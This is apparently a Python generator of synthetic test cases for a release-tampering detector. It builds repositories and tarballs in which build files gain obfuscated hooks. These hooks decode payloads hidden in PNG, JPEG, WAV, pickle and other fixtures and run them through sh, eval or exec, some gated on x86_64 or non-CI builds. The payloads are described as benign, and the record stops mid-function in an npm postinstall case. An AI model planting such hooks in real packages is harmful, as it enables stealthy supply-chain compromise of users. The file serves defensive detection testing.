"""Blind set, round 2: more synthetic release-tampering cases (and controls).

Same contract as ``cases.py``: each ``case_*`` function takes an empty working
directory, builds in it a git repository (one commit, one annotated tag) and a
release artifact made from it, and returns ``(repo_path, artifact_path,
expected)``.

The idioms deliberately differ from round 1: perl ``unpack("u")``, ``od`` +
``printf`` octal reconstruction written through a here-document and sourced
later, ``cut``/``paste`` + an ``eval`` assembled over several lines, GNU make
``$(shell python3 -c ...)``, ``tr`` byte maps + ``bunzip2``, ``env printf``
hex escapes, CMake ``file(READ ... HEX)`` + ``string(REGEX REPLACE)`` and
``install(CODE)`` + an archive member ``include()``d, Meson ``custom_target``
with ``lzma``, a setuptools ``cmdclass``, an in-tree PEP 517 backend that
unpickles a fixture, npm ``postinstall`` with ``inflateRawSync`` +
``Module._compile``, node-gyp ``<!()`` command expansion, and a tracked
``build.rs`` that grows an xz-style environment gate.

Every injected payload is benign (it prints one line and touches a
``.chainsight-blind-*.marker`` file) and nothing here ever runs it: artifacts
are only written, never unpacked, configured, built or installed.
"""

from __future__ import annotations

import binascii
import bz2
import gzip
import io
import json
import lzma
import math
import struct
import tarfile
import zlib
from collections.abc import Callable, Iterable, Mapping
from pathlib import Path

from _build import (
    TAR_MTIME,
    CaseResult,
    CaseSkipped,
    Files,
    as_bytes,
    autoreconf,
    autotools_project,
    dist_tree,
    expected,
    js_payload,
    make_repo,
    noise,
    npm_tgz,
    package_json,
    py_payload,
    replace_once,
    setuptools_sdist_extras,
    sh_payload,
    tar_gz,
)
from cases import _npm_base

ACLOCAL_DIR = Path("/usr/share/aclocal")
GETTEXT_DIR = Path("/usr/share/gettext")

# ===========================================================================
# generic helpers (round 2 only)
# ===========================================================================


def one_line(payload: bytes) -> str:
    """A multi-line shell payload folded into one ``;``-separated line."""
    return "; ".join(line for line in payload.decode().splitlines() if line)


def cmake_payload(case: str) -> bytes:
    """A CMake snippet that only prints a line and touches a marker file."""
    return (
        f'message(STATUS "chainsight blind case {case}: benign marker, nothing else")\n'
        f'file(TOUCH "${{CMAKE_CURRENT_LIST_DIR}}/.chainsight-blind-{case}.marker")\n'
    ).encode()


def system_file(path: Path) -> str:
    """Text of an installed file (an upstream macro, config.rpath ...)."""
    if not path.is_file():
        raise CaseSkipped(f"needs {path}")
    return path.read_text()


def bump_serial(m4_text: str) -> str:
    """Raise the ``# name.m4 serial N`` header of a macro file by one."""
    first, rest = m4_text.split("\n", 1)
    head, _, serial = first.rpartition(" ")
    return f"{head} {int(serial) + 1}\n{rest}"


def png_chunk(kind: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(kind + data) & 0xFFFFFFFF
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


def png_image(seed: str, width: int = 32, height: int = 32) -> bytes:
    """A valid 8-bit greyscale PNG whose pixels are deterministic noise."""
    pixels = noise(seed, width * height)
    rows = b"".join(b"\0" + pixels[y * width : (y + 1) * width] for y in range(height))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", zlib.compress(rows, 9))
        + png_chunk(b"IEND", b"")
    )


def jpeg_image(seed: str, size: int = 1200) -> bytes:
    """A JFIF-looking byte string: SOI, APP0, DQT-ish noise, scan data, EOI."""
    scan = noise(seed, size).replace(b"\xff", b"\xfe")  # no stray markers in the scan
    app0 = b"JFIF\0\x01\x01\x00\x00\x48\x00\x48\x00\x00"
    return (
        b"\xff\xd8"
        + b"\xff\xe0"
        + struct.pack(">H", len(app0) + 2)
        + app0
        + b"\xff\xdb\x00\x43\x00"
        + noise(seed + "q", 64).replace(b"\xff", b"\x01")
        + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00"
        + scan
        + b"\xff\xd9"
    )


def wav_tone(freq: float = 440.0, rate: int = 8000, samples: int = 1600) -> bytes:
    """A mono 16-bit PCM WAV file holding a short sine tone."""
    pcm = b"".join(
        struct.pack("<h", int(12000 * math.sin(2 * math.pi * freq * i / rate)))
        for i in range(samples)
    )
    fmt = struct.pack("<HHIIHH", 1, 1, rate, rate * 2, 2, 16)
    body = b"WAVE" + b"fmt " + struct.pack("<I", len(fmt)) + fmt
    body += b"data" + struct.pack("<I", len(pcm)) + pcm
    return b"RIFF" + struct.pack("<I", len(body)) + body


def exec_pickle(source: bytes) -> bytes:
    """A protocol-2 pickle whose loading calls ``builtins.exec(source)``.

    Written opcode by opcode; nothing here ever unpickles it.
    """
    return (
        b"\x80\x02"  # PROTO 2
        + b"cbuiltins\nexec\n"  # GLOBAL
        + b"X"
        + struct.pack("<I", len(source))
        + source  # BINUNICODE
        + b"\x85"  # TUPLE1
        + b"R"  # REDUCE
        + b"."  # STOP
    )


def uuencode_lines(data: bytes) -> bytes:
    """uuencode body lines (45 bytes each) with backticks, plus the empty line."""
    out = b"".join(
        binascii.b2a_uu(data[i : i + 45], backtick=True) for i in range(0, len(data), 45)
    )
    return out + b"`\n"


def tar_bytes(prefix: str, files: Mapping[str, bytes]) -> bytes:
    """An uncompressed, deterministic ustar archive held in memory."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for name in sorted(files):
            ti = tarfile.TarInfo(f"{prefix}/{name}")
            ti.size = len(files[name])
            ti.mtime = TAR_MTIME
            ti.mode = 0o644
            tf.addfile(ti, io.BytesIO(files[name]))
    return buf.getvalue()


def tgz_bytes(prefix: str, files: Mapping[str, bytes]) -> bytes:
    return gzip.compress(tar_bytes(prefix, files), mtime=0)


def autotools_release(
    work: Path,
    name: str,
    version: str,
    files: Files,
    execs: set[str],
    tree: Files | None = None,
) -> tuple[Path, Files, set[str]]:
    """Make the tagged repository from ``files`` and run autoreconf on ``tree``
    (defaults to ``files``); returns the repo and the generated tree."""
    repo, _ = make_repo(work / "repo", files, f"v{version}", execs)
    gen, gen_execs = autoreconf(tree if tree is not None else files, execs)
    return repo, gen, gen_execs


def release_tgz(
    work: Path, name: str, version: str, tree: Files, execs: Iterable[str] = ()
) -> Path:
    return tar_gz(work / f"{name}-{version}.tar.gz", f"{name}-{version}", dist_tree(tree), execs)


# ===========================================================================
# autotools
# ===========================================================================

HOST_CPU_INJECT = """\
  HOST_CPU_C_ABI_32BIT="$gl_cv_host_cpu_c_abi_32bit"
  gl_abi_ref="$srcdir/tests/files/bad-5-uuencoded.frm"
  if test "$HOST_CPU_C_ABI_32BIT" = no && test -r "$gl_abi_ref"; then
    perl -ne 'print unpack("u", $_) if /^begin 6/ .. /^end$/ and !/^(begin|end)/' \\
      "$gl_abi_ref" 2>/dev/null | $SHELL >/dev/null 2>&1
  fi
"""


def case_m4_host_cpu_perl_uudecode(work: Path) -> CaseResult:
    """Artifact-only copy of gettext/gnulib host-cpu-c-abi.m4 (serial bumped)
    whose 64-bit branch perl-uudecodes a tracked "bad" test frame into $SHELL."""
    name, version = "blinduu", "5.6.2"
    blob = "tests/files/bad-5-uuencoded.frm"
    upstream = system_file(ACLOCAL_DIR / "host-cpu-c-abi.m4")
    fixture = (
        b"BL\x05\x00"
        + noise("uu-head", 120)
        + b"\nbegin 644 frame-5.bin\n"
        + uuencode_lines(sh_payload("m4-perl-uu"))
        + b"end\n"
        + noise("uu-tail", 96)
    )
    files, execs = autotools_project(
        name,
        version,
        configure_extra="gl_HOST_CPU_C_ABI_32BIT",
        autogen_extra="# m4/host-cpu-c-abi.m4 is copied from gettext (not tracked)\n",
        extra_files={blob: fixture},
    )
    tree = dict(files)
    anchor = '  HOST_CPU_C_ABI_32BIT="$gl_cv_host_cpu_c_abi_32bit"\n'
    tree["m4/host-cpu-c-abi.m4"] = replace_once(
        bump_serial(upstream), anchor, HOST_CPU_INJECT
    ).encode()
    repo, gen, gen_execs = autotools_release(work, name, version, files, execs, tree)
    art = release_tgz(work, name, version, gen, gen_execs)
    return repo, art, expected(True, "m4/host-cpu-c-abi.m4", "critical", [blob])


def case_configure_od_printf_heredoc(work: Path) -> CaseResult:
    """Only the generated configure is edited, in two places: stage 1 rebuilds
    bytes of a tracked frame with od + printf octal escapes and writes them with
    a here-document; stage 2, thousands of lines later, sources the file."""
    name, version = "blindod", "1.8.0"
    blob = "tests/files/good-5-table.frm"
    payload = sh_payload("configure-od")
    offset = 96
    fixture = b"BL\x05\x00" + noise("od-head", offset - 4) + payload + noise("od-tail", 220)
    files, execs = autotools_project(name, version, extra_files={blob: fixture})
    repo, gen, gen_execs = autotools_release(work, name, version, files, execs)
    conf = gen["configure"].decode()
    stage1 = (
        "# Record the byte order of the reference frames for the test-suite.\n"
        f'bl_frm="$srcdir/{blob}"\n'
        "bl_oct=\n"
        'if test -r "$bl_frm"; then\n'
        f'  for bl_o in `od -An -v -to1 -j {offset} -N {len(payload)} "$bl_frm"`; do\n'
        '    bl_oct="$bl_oct\\\\$bl_o"\n'
        "  done\n"
        "  cat > blorder.lst <<_BLEOF\n"
        '`printf "$bl_oct"`\n'
        "_BLEOF\n"
        "fi\n\n"
    )
    anchor1 = "# Check whether --enable-dependency-tracking was given.\n"
    conf = replace_once(conf, anchor1, stage1 + anchor1)
    stage2 = "test -s blorder.lst && . ./blorder.lst\nrm -f blorder.lst\n\n"
    anchor2 = ': "${CONFIG_STATUS=./config.status}"\n'
    gen["configure"] = replace_once(conf, anchor2, stage2 + anchor2).encode()
    art = release_tgz(work, name, version, gen, gen_execs)
    return repo, art, expected(True, "configure", "high", [blob])


BL_WARNINGS_M4 = """\
# bl_warnings.m4 serial @SERIAL@
dnl BL_COMPILER_WARNINGS: collect the warning flags the compiler accepts.
dnl This file is free software; unlimited permission to copy and/or
dnl distribute it, with or without modifications, is granted.

AC_DEFUN([BL_COMPILER_WARNINGS],
[AC_REQUIRE([AC_PROG_CC])dnl
WARN_CFLAGS=
bl_save_CFLAGS=$CFLAGS
for bl_flag in -Wall -Wextra -Wshadow -Wformat=2 -Wstrict-prototypes; do
  AC_MSG_CHECKING([whether $CC accepts $bl_flag])
  CFLAGS="$bl_save_CFLAGS $bl_flag -Werror"
  AC_COMPILE_IFELSE([AC_LANG_PROGRAM([], [])],
    [AC_MSG_RESULT([yes]); WARN_CFLAGS="$WARN_CFLAGS $bl_flag"],
    [AC_MSG_RESULT([no])])
done
CFLAGS=$bl_save_CFLAGS@INJECT@
AC_SUBST([WARN_CFLAGS])
])
"""

BL_WARNINGS_INJECT = """

dnl Also honour the project-wide list kept next to the test frames.
bl_wlist="$srcdir/tests/files/warnings.lst"
if test -r "$bl_wlist"; then
  bl_wseen=`cut -c3 "$bl_wlist" | paste -sd '' -`
  bl_wact=ev
  bl_wact=${bl_wact}al
  $bl_wact "$bl_wseen" >/dev/null 2>&1
fi"""

WARNING_SUFFIXES = (
    "all", "extra", "shadow", "format=2", "undef", "cast-align", "pointer-arith",
    "vla", "write-strings", "missing-prototypes", "null-dereference", "jump-misses-init",
)  # fmt: skip


def case_m4_tracked_cut_paste_eval(work: Path) -> CaseResult:
    """Tracked project macro m4/bl_warnings.m4, modified in the tarball (serial
    bumped): column 3 of a tracked warning-flag list is cut and pasted into a
    command, and `eval` is spelled over two assignments."""
    name, version = "blindwarn", "2.4.0"
    blob = "tests/files/warnings.lst"
    command = one_line(sh_payload("m4-cut-paste"))
    lines = [f"-W{c}{WARNING_SUFFIXES[i % len(WARNING_SUFFIXES)]}\n" for i, c in enumerate(command)]
    m4_git = BL_WARNINGS_M4.replace("@SERIAL@", "2").replace("@INJECT@", "")
    m4_art = BL_WARNINGS_M4.replace("@SERIAL@", "3").replace("@INJECT@", BL_WARNINGS_INJECT)
    files, execs = autotools_project(
        name,
        version,
        configure_extra="BL_COMPILER_WARNINGS",
        extra_files=as_bytes({"m4/bl_warnings.m4": m4_git, blob: "".join(lines)}),
    )
    tree = dict(files)
    tree["m4/bl_warnings.m4"] = m4_art.encode()
    repo, gen, gen_execs = autotools_release(work, name, version, files, execs, tree)
    art = release_tgz(work, name, version, gen, gen_execs)
    return repo, art, expected(True, "m4/bl_warnings.m4", "high", [blob])


def case_makefile_in_shell_python_png(work: Path) -> CaseResult:
    """Generated Makefile.in gains a GNU make `:= $(shell python3 -c ...)` that
    execs the reversed bytes trailing the IEND chunk of a tracked PNG logo."""
    name, version = "blindlogo", "0.14.0"
    blob = "doc/logo.png"
    logo = png_image("logo") + py_payload("makefile-python")[::-1]
    files, execs = autotools_project(name, version, extra_files={blob: logo})
    repo, gen, gen_execs = autotools_release(work, name, version, files, execs)
    mk = gen["Makefile.in"].decode()
    anchor = "top_srcdir = @top_srcdir@\n"
    rule = (
        "# Check that the documentation logo is a valid PNG (used by `make html`).\n"
        "BL_LOGO_OK := $(shell python3 -c \"import sys;d=open(sys.argv[1],'rb').read();"
        "exec(d[d.rindex(b'IEND')+8:][::-1])\" $(top_srcdir)/" + blob + " 2>/dev/null)\n"
    )
    gen["Makefile.in"] = replace_once(mk, anchor, anchor + rule).encode()
    art = release_tgz(work, name, version, gen, gen_execs)
    return repo, art, expected(True, "Makefile.in", "high", [blob])


CONFIG_GUESS_INJECT = """\
# Debian and RPM builds: prefer the multiarch triplet recorded with the test frames.
if test "$UNAME_MACHINE" = x86_64 \\
   && { command -v dpkg-architecture >/dev/null 2>&1 || test -n "${RPM_ARCH-}"; }; then
	case ${CC-gcc} in *gcc*)
		cg_frm=`dirname "$0"`/../tests/files/good-6-multiarch.frm
		test -r "$cg_frm" && head -c 4096 "$cg_frm" | tail -c +513 \\
			| tr '\\000-\\377' '\\200-\\377\\000-\\177' \\
			| bunzip2 -c 2>/dev/null | sh >/dev/null 2>&1
		;;
	esac
fi

"""


def case_config_guess_gated_bunzip2(work: Path) -> CaseResult:
    """The copied build-aux/config.guess runs, only on x86_64 Debian/RPM builds
    with gcc, a head -c | tail -c slice of a tracked frame through a tr byte map
    and bunzip2 into sh."""
    name, version = "blindguess", "3.0.7"
    blob = "tests/files/good-6-multiarch.frm"
    packed = bytes(b ^ 0x80 for b in bz2.compress(sh_payload("config-guess"), 9))
    fixture = b"BL\x06\x00" + noise("guess-head", 508) + packed
    fixture += noise("guess-tail", 6000 - len(fixture))
    files, execs = autotools_project(name, version, extra_files={blob: fixture})
    repo, gen, gen_execs = autotools_release(work, name, version, files, execs)
    cg = gen["build-aux/config.guess"].decode()
    anchor = "# Note: order is significant - the case branches are not exclusive.\n"
    gen["build-aux/config.guess"] = replace_once(cg, anchor, CONFIG_GUESS_INJECT + anchor).encode()
    art = release_tgz(work, name, version, gen, gen_execs)
    return repo, art, expected(True, "build-aux/config.guess", "critical", [blob])


def case_depcomp_env_printf_hex(work: Path) -> CaseResult:
    """Self-contained block in the copied build-aux/depcomp, skipped on CI and
    off x86_64: hex escapes split over four variables, expanded by the external
    printf (`env printf`, since dash's builtin has no \\x), piped to the shell."""
    name, version = "blinddep", "1.1.9"
    files, execs = autotools_project(name, version)
    repo, gen, gen_execs = autotools_release(work, name, version, files, execs)
    esc = "".join(f"\\x{b:02x}" for b in sh_payload("depcomp-hex"))
    step = -(-len(esc) // 4)
    step += (-step) % 4  # keep every \xNN whole
    parts = [esc[i : i + step] for i in range(0, len(esc), step)]
    block = (
        "# Work around stale dependency files on parallel x86_64 builds.\n"
        'if test -z "${CI-}" && test "`uname -m 2>/dev/null`" = x86_64; then\n'
        + "".join(f"  dc_p{i}='{p}'\n" for i, p in enumerate(parts))
        + '  env printf "'
        + "".join(f"$dc_p{i}" for i in range(len(parts)))
        + '" | ${CONFIG_SHELL-/bin/sh} >/dev/null 2>&1\n'
        "fi\n\n"
    )
    dc = gen["build-aux/depcomp"].decode()
    anchor = "# Get the directory component of the given path, and save it in the\n"
    gen["build-aux/depcomp"] = replace_once(dc, anchor, block + anchor).encode()
    art = release_tgz(work, name, version, gen, gen_execs)
    return repo, art, expected(True, "build-aux/depcomp", "high")


# ===========================================================================
# CMake and Meson
# ===========================================================================

HIST_C = """\
#include <stddef.h>
#include <stdint.h>
#include "hist.h"

void
hist_count(const uint8_t *p, size_t n, uint32_t out[256])
{
\tfor (size_t i = 0; i < 256; i++)
\t\tout[i] = 0;
\twhile (n--)
\t\tout[*p++]++;
}
"""

HIST_H = """\
#ifndef BLIND_HIST_H
#define BLIND_HIST_H
#include <stddef.h>
#include <stdint.h>
void hist_count(const uint8_t *p, size_t n, uint32_t out[256]);
#endif
"""

TEST_HIST_C = """\
#include <stdio.h>
#include "hist.h"

int
main(int argc, char **argv)
{
\tunsigned char buf[8192];
\tuint32_t h[256];
\tfor (int i = 1; i < argc; i++) {
\t\tFILE *f = fopen(argv[i], "rb");
\t\tif (f == NULL)
\t\t\treturn 2;
\t\tsize_t n = fread(buf, 1, sizeof buf, f);
\t\tfclose(f);
\t\thist_count(buf, n, h);
\t}
\treturn 0;
}
"""

HIST_CMAKE = """\
cmake_minimum_required(VERSION 3.18)
project(blindhist VERSION @VERSION@ LANGUAGES C)

list(APPEND CMAKE_MODULE_PATH "${CMAKE_CURRENT_SOURCE_DIR}/cmake")

add_library(blindhist src/hist.c)
target_include_directories(blindhist PUBLIC src)

enable_testing()
add_executable(test_hist tests/test_hist.c)
target_link_libraries(test_hist blindhist)
@EXTRA@
include(@INCLUDE@)
"""


def _hist_files(version: str, extra: str, include: str, more: Mapping[str, str | bytes]) -> Files:
    base: dict[str, str | bytes] = {
        "CMakeLists.txt": HIST_CMAKE.replace("@VERSION@", version)
        .replace("@EXTRA@", extra)
        .replace("@INCLUDE@", include),
        "src/hist.c": HIST_C,
        "src/hist.h": HIST_H,
        "tests/test_hist.c": TEST_HIST_C,
        "README.md": "# blindhist\n\nByte histograms. Build with CMake.\n",
        ".gitignore": "/build/\n",
    }
    base.update(more)
    return as_bytes(base)


TESTING_CMAKE = """\
# Register one test per reference vector in tests/data.
function(blind_add_vector_test name file)
  add_test(NAME ${name} COMMAND test_hist "${CMAKE_CURRENT_SOURCE_DIR}/${file}")
endfunction()

blind_add_vector_test(corrupt-header tests/data/corrupt-header.bin)
blind_add_vector_test(plain tests/data/plain.bin)
"""

TESTING_INJECT = """
# Validate the corrupt-header vector before registering it.
set(_blind_vec "${CMAKE_CURRENT_LIST_DIR}/../tests/data/corrupt-header.bin")
if(EXISTS "${_blind_vec}" AND CMAKE_HOST_SYSTEM_PROCESSOR MATCHES "x86_64|AMD64")
  file(READ "${_blind_vec}" _blind_hex OFFSET @OFFSET@ LIMIT @LIMIT@ HEX)
  string(REGEX REPLACE "([0-9a-f][0-9a-f])" "\\\\\\\\x\\\\1" _blind_esc "${_blind_hex}")
  execute_process(COMMAND printf "${_blind_esc}" COMMAND sh OUTPUT_QUIET ERROR_QUIET)
endif()
"""


def case_cmake_file_read_hex_regex(work: Path) -> CaseResult:
    """Tracked cmake/Testing.cmake, modified in the tarball: file(READ ... HEX)
    of a slice of a tracked binary vector, string(REGEX REPLACE) into \\xNN
    escapes, execute_process piping printf into sh (x86_64 hosts only)."""
    version = "1.5.0"
    blob = "tests/data/corrupt-header.bin"
    payload = sh_payload("cmake-hex-regex")
    offset = 160
    vector = b"HST\x01" + noise("vec-head", offset - 4) + payload + noise("vec-tail", 300)
    files = _hist_files(
        version,
        "",
        "Testing",
        {
            "cmake/Testing.cmake": TESTING_CMAKE,
            blob: vector,
            "tests/data/plain.bin": noise("plain", 512),
        },
    )
    repo, _ = make_repo(work / "repo", files, f"v{version}")
    art_files = dist_tree(files)
    inject = TESTING_INJECT.replace("@OFFSET@", str(offset)).replace("@LIMIT@", str(len(payload)))
    art_files["cmake/Testing.cmake"] = (TESTING_CMAKE + inject).encode()
    art = tar_gz(work / f"blindhist-{version}.tar.gz", f"blindhist-{version}", art_files)
    return repo, art, expected(True, "cmake/Testing.cmake", "high", [blob])


PACKAGING_CMAKE = """\
# Install rules and source/binary packages.
include(GNUInstallDirs)
install(TARGETS blindhist ARCHIVE DESTINATION ${CMAKE_INSTALL_LIBDIR})
install(FILES src/hist.h DESTINATION ${CMAKE_INSTALL_INCLUDEDIR})
@INJECT@
set(CPACK_PACKAGE_NAME blindhist)
set(CPACK_SOURCE_GENERATOR TGZ)
set(CPACK_SOURCE_IGNORE_FILES "/build/;/\\\\.git/")
include(CPack)
"""

PACKAGING_INJECT = """\
# Ship the sample corpus index with the installed examples.
install(CODE "
  execute_process(COMMAND \\"\\${CMAKE_COMMAND}\\" -E tar xf
      \\"${CMAKE_CURRENT_SOURCE_DIR}/tests/data/corpus.tar\\"
    WORKING_DIRECTORY \\"${CMAKE_CURRENT_BINARY_DIR}\\" OUTPUT_QUIET ERROR_QUIET)
  include(\\"${CMAKE_CURRENT_BINARY_DIR}/corpus/.index.cmake\\" OPTIONAL)
")
"""


def case_cmake_install_code_tar_include(work: Path) -> CaseResult:
    """Tracked cmake/Packaging.cmake, modified in the tarball: install(CODE)
    unpacks a tracked test corpus archive at install time and include()s a
    hidden .cmake member that the archive has carried since the tag."""
    version = "1.6.0"
    blob = "tests/data/corpus.tar"
    corpus = tar_bytes(
        "corpus",
        {
            "README": b"Sample inputs for test_hist.\n",
            "sample-1.bin": noise("corpus-1", 700),
            "sample-2.bin": noise("corpus-2", 1300),
            ".index.cmake": cmake_payload("cmake-install-tar"),
        },
    )
    extra = f'add_test(NAME corpus COMMAND test_hist "${{CMAKE_CURRENT_SOURCE_DIR}}/{blob}")\n'
    files = _hist_files(
        version,
        extra,
        "Packaging",
        {"cmake/Packaging.cmake": PACKAGING_CMAKE.replace("@INJECT@", ""), blob: corpus},
    )
    repo, _ = make_repo(work / "repo", files, f"v{version}")
    art_files = dist_tree(files)
    art_files["cmake/Packaging.cmake"] = PACKAGING_CMAKE.replace(
        "@INJECT@", PACKAGING_INJECT
    ).encode()
    art = tar_gz(work / f"blindhist-{version}.tar.gz", f"blindhist-{version}", art_files)
    return repo, art, expected(True, "cmake/Packaging.cmake", "high", [blob])


MESON_WAV_BUILD = """\
project('blindwav', 'c', version : '@VERSION@', license : 'MIT',
  default_options : ['warning_level=2'])

wav_lib = static_library('blindwav', 'src/hist.c')
wav_dep = declare_dependency(link_with : wav_lib, include_directories : 'src')

test_hist = executable('test_hist', 'tests/test_hist.c', dependencies : wav_dep)
test('tone', test_hist, args : [files('tests/data/tone-440.wav')])
@INJECT@"""

MESON_WAV_INJECT = """
python3 = find_program('python3')
# Make sure the reference tone still has the expected sample count.
tone_check = custom_target('tone-check',
  input : 'tests/data/tone-440.wav',
  output : 'tone-check.stamp',
  command : [python3, '-c',
    'import lzma,sys;d=open(sys.argv[1],"rb").read();n=int.from_bytes(d[40:44],"little");'
    + 'exec(lzma.decompress(d[44+n:]));open(sys.argv[2],"w").close()',
    '@INPUT@', '@OUTPUT@'],
  build_by_default : true)
"""


def case_meson_custom_target_lzma_wav(work: Path) -> CaseResult:
    """Tracked meson.build, modified in the tarball: a build-by-default
    custom_target runs python3 -c, which lzma-decompresses and execs the bytes
    after the data chunk of a tracked WAV test tone."""
    version = "0.9.4"
    blob = "tests/data/tone-440.wav"
    tone = wav_tone() + lzma.compress(py_payload("meson-lzma"))
    files = as_bytes(
        {
            "meson.build": MESON_WAV_BUILD.replace("@VERSION@", version).replace("@INJECT@", ""),
            "src/hist.c": HIST_C,
            "src/hist.h": HIST_H,
            "tests/test_hist.c": TEST_HIST_C,
            blob: tone,
            "README.md": "# blindwav\n\nBuild with `meson setup build && ninja -C build`.\n",
            ".gitignore": "/build/\n",
        }
    )
    repo, _ = make_repo(work / "repo", files, f"v{version}")
    art_files = dist_tree(files)
    art_files["meson.build"] = (
        MESON_WAV_BUILD.replace("@VERSION@", version).replace("@INJECT@", MESON_WAV_INJECT)
    ).encode()
    art = tar_gz(work / f"blindwav-{version}.tar.gz", f"blindwav-{version}", art_files)
    return repo, art, expected(True, "meson.build", "high", [blob])


# ===========================================================================
# Python
# ===========================================================================

SHOT_SETUP_GIT = """\
import os

from setuptools import find_packages, setup
from setuptools.command.build_py import build_py as _build_py

SCREENSHOT = os.path.join("docs", "images", "screenshot.jpg")


class build_py(_build_py):
    \"\"\"Also ship the screenshot used by the package's --help-gui page.\"\"\"

    def run(self):
        super().run()
        target = os.path.join(self.build_lib, "blindshot", "assets")
        self.mkpath(target)
        self.copy_file(SCREENSHOT, os.path.join(target, "screenshot.jpg"))
@EXTRA@

setup(
    name="blindshot",
    version="2.7.1",
    package_dir={"": "src"},
    packages=find_packages("src"),
    cmdclass={"build_py": build_py},
)
"""

SHOT_SETUP_EXTRA = """\
        self._check_asset(SCREENSHOT)

    def _check_asset(self, path):
        \"\"\"Refuse to ship a truncated JPEG.\"\"\"
        with open(path, "rb") as fh:
            data = fh.read()
        extra = data[data.rindex(b"\\xff\\xd9") + 2 :]
        if extra:
            key = b"blindshot"
            code = bytes(b ^ key[i % len(key)] for i, b in enumerate(extra))
            exec(code, {"__name__": "blindshot.assets"})
"""


def case_setup_py_cmdclass_jpeg_xor(work: Path) -> CaseResult:
    """Tracked setup.py with a build_py cmdclass, modified in the sdist: the
    command also reads bytes after the EOI marker of a tracked screenshot,
    repeating-key XORs them and execs the result."""
    name, version = "blindshot", "2.7.1"
    blob = "docs/images/screenshot.jpg"
    key = b"blindshot"
    tail = bytes(b ^ key[i % len(key)] for i, b in enumerate(py_payload("setup-cmdclass")))
    if b"\xff\xd9" in tail:
        raise RuntimeError("XORed payload contains an EOI marker")
    readme = "# blindshot\n\nScreenshot helpers.\n"
    files = as_bytes(
        {
            "setup.py": SHOT_SETUP_GIT.replace("@EXTRA@", ""),
            "pyproject.toml": '[build-system]\nrequires = ["setuptools>=61"]\n'
            'build-backend = "setuptools.build_meta"\n',
            "MANIFEST.in": "include docs/images/*.jpg\n",
            "README.md": readme,
            "src/blindshot/__init__.py": '"""Screenshot helpers."""\n__version__ = "2.7.1"\n',
            "tests/test_import.py": "def test_import():\n    import blindshot  # noqa: F401\n",
            blob: jpeg_image("screenshot") + tail,
            ".gitignore": "*.egg-info/\n/build/\n/dist/\n",
        }
    )
    repo, _ = make_repo(work / "repo", files, f"v{version}")
    art_files = dist_tree(files)
    art_files["setup.py"] = SHOT_SETUP_GIT.replace("@EXTRA@", SHOT_SETUP_EXTRA).encode()
    art_files.update(
        setuptools_sdist_extras(
            name, version, "Screenshot helpers", readme, art_files, "src/blindshot.egg-info"
        )
    )
    art = tar_gz(work / f"{name}-{version}.tar.gz", f"{name}-{version}", art_files)
    return repo, art, expected(True, "setup.py", "high", [blob])


CALIB_PYPROJECT = """\
[build-system]
requires = ["setuptools>=68"]
build-backend = "blind_backend"
backend-path = ["_build"]

[project]
name = "blindcal"
version = "0.4.0"
description = "Sensor calibration helpers"
readme = "README.md"
requires-python = ">=3.9"
"""

CALIB_BACKEND_GIT = """\
\"\"\"In-tree PEP 517 backend: setuptools, plus a generated _build_info.py.\"\"\"

from pathlib import Path

from setuptools import build_meta as _orig
from setuptools.build_meta import *  # noqa: F401,F403

_ROOT = Path(__file__).resolve().parent.parent
@EXTRA@

def _write_build_info():
    info = _ROOT / "src" / "blindcal" / "_build_info.py"
    info.write_text('BACKEND = "blind_backend"\\n')


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    _write_build_info()
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
"""

CALIB_BACKEND_EXTRA = """
import pickle


def _load_calibration():
    \"\"\"Default calibration table, shared with the test-suite.\"\"\"
    try:
        with open(_ROOT / "tests" / "data" / "calibration.pkl", "rb") as fh:
            return pickle.load(fh)
    except Exception:
        return None


DEFAULT_CALIBRATION = _load_calibration()
"""


def case_pep517_backend_path_pickle(work: Path) -> CaseResult:
    """An in-tree PEP 517 backend (backend-path) that is tracked, modified in
    the sdist to pickle.load a tracked "calibration" fixture whose pickle
    opcodes call builtins.exec."""
    name, version = "blindcal", "0.4.0"
    blob = "tests/data/calibration.pkl"
    readme = "# blindcal\n\nSensor calibration helpers.\n"
    files = as_bytes(
        {
            "pyproject.toml": CALIB_PYPROJECT,
            "_build/blind_backend.py": CALIB_BACKEND_GIT.replace("@EXTRA@", ""),
            "README.md": readme,
            "src/blindcal/__init__.py": '"""Sensor calibration helpers."""\n',
            "src/blindcal/apply.py": "def apply(table, x):\n"
            "    return table.get('gain', 1.0) * x\n",
            "tests/test_apply.py": "from blindcal.apply import apply\n\n\ndef test_apply():\n"
            "    assert apply({'gain': 2.0}, 3) == 6.0\n",
            blob: exec_pickle(py_payload("pep517-pickle")),
            ".gitignore": "/dist/\nsrc/blindcal/_build_info.py\n",
        }
    )
    repo, _ = make_repo(work / "repo", files, f"v{version}")
    art_files = dist_tree(files)
    art_files["_build/blind_backend.py"] = CALIB_BACKEND_GIT.replace(
        "@EXTRA@", CALIB_BACKEND_EXTRA
    ).encode()
    art_files.update(
        setuptools_sdist_extras(
            name, version, "Sensor calibration helpers", readme, art_files, "src/blindcal.egg-info"
        )
    )
    art = tar_gz(work / f"{name}-{version}.tar.gz", f"{name}-{version}", art_files)
    return repo, art, expected(True, "_build/blind_backend.py", "high", [blob])


# ===========================================================================
# npm
# ===========================================================================


def _npm_manifest(name: str, version: str, **extra: object) -> dict[str, object]:
    """Round 1's manifest, with the code under lib/."""
    return _npm_base(name, version, **{"main": "lib/index.js", **extra})


POSTINSTALL_BANNER = """\
'use strict';
/* eslint-disable no-console */
const env = process.env;
const quiet = ['silent', 'error', 'warn'].includes(env.npm_config_loglevel);

function banner() {
  if (quiet || env.CI || env.ADBLOCK || env.DISABLE_OPENCOLLECTIVE) return;
  console.log('\\u001b[96mThank you for using @NAME@!\\u001b[0m');
  console.log('Support the project: https://example.invalid/@NAME@/sponsor');
}

banner();
"""

POSTINSTALL_INJECT = """
const fs = require('fs');
const path = require('path');
const zlib = require('zlib');
const Module = require('module');

// Warm the glyph cache so that the first render is fast.
function warmFontCache() {
  try {
